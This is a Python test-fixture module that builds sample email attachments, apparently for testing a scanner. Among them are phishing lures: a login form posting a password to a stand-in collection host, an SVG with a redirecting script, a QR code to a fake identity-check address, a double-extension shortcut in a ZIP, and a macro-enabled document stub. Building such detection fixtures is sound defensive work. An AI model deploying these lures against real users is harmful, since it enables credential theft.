"""Small attached files of each kind, as bytes that say what they are."""

from __future__ import annotations

import io
import zipfile

import zxingcpp
from PIL import Image

_PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000a49444154789c63000100000500010d0a2db40000000049454e44ae426082"
)
_CALENDAR = (
    "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Example//Calendar//EN\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\n"
    "UID:1@example.com\r\nDTSTAMP:20250110T000000Z\r\nDTSTART:20250120T010000Z\r\nDTEND:20250120T020000Z\r\n"
    "SUMMARY:Meeting\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
)
_PAGE = (
    '<html><body><form action="https://collect.example.net/in.php" method="post">'
    '<input name="mail"><input type="password" name="key"><button>Open</button></form></body></html>'
)
TYPES = {
    "pdf": "application/pdf",
    "png": "image/png",
    "code": "image/png",
    "svg": "image/svg+xml",
    "wav": "audio/wav",
    "page": "text/html",
    "ics": "text/calendar",
    "zip": "application/zip",
    "loaded": "application/zip",
    "one": "application/onenote",
    "locked": "application/zip",
    "html": "text/html",
    "csv": "text/csv",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "docm": "application/vnd.ms-word.document.macroEnabled.12",
    "vcf": "text/vcard",
    "p7s": "application/pkcs7-signature",
    "exe": "application/octet-stream",
    "lnk": "application/octet-stream",
    "iso": "application/octet-stream",
}


def content(kind: str) -> bytes:
    """The bytes of a file of that kind."""
    plain = {
        "pdf": b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
        "png": _PNG,
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://c.example.net/"</script></svg>',
        "wav": b"RIFF\x24\x00\x00\x00WAVEfmt \x10\x00\x00\x00" + bytes(20),
        "page": b'<html><body><a href="https://sealed.example/open">Open it</a></body></html>',
        "ics": _CALENDAR.encode(),
        "html": _PAGE.encode(),
        "csv": b"item,amount\r\nbooks,1200\r\n",
        "vcf": b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Reader\r\nEND:VCARD\r\n",
        "p7s": bytes.fromhex("3080060b2a864886f70d010702a080"),
        "exe": b"MZ\x90\x00" + bytes(60),
        "lnk": bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(56),
        "one": bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(64),
        "iso": bytes(32769) + b"CD001" + bytes(64),
    }
    if kind == "code":
        return _code("https://id-check81.example.net/m")
    return plain[kind] if kind in plain else _zipped(kind)


def _code(address: str) -> bytes:
    """A picture of a square code that leads there."""
    drawn = zxingcpp.create_barcode(address, zxingcpp.BarcodeFormat.QRCode).to_image(scale=4)
    height, width = drawn.shape[:2]
    written = io.BytesIO()
    Image.frombuffer("L", (width, height), bytes(memoryview(drawn))).save(written, "PNG")
    return written.getvalue()


def _zipped(kind: str) -> bytes:
    names = {
        "zip": ("photos.txt",),
        "loaded": ("Invoice_2025.pdf.lnk",),
        "locked": ("mitsumori.xlsx",),
        "xlsx": ("[Content_Types].xml", "xl/workbook.xml"),
        "docm": ("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"),
    }[kind]
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        for name in names:
            archive.writestr(zipfile.ZipInfo(name, (2025, 1, 10, 9, 0, 0)), b"<x/>")
    return _locked(written.getvalue()) if kind == "locked" else written.getvalue()


def _locked(archive: bytes) -> bytes:
    """The archive with the flag of encryption set in each of its entries' headers."""
    changed = bytearray(archive)
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = archive.find(mark)
        while at >= 0:
            changed[at + flags] |= 1
            at = archive.find(mark, at + 1)
    return bytes(changed)
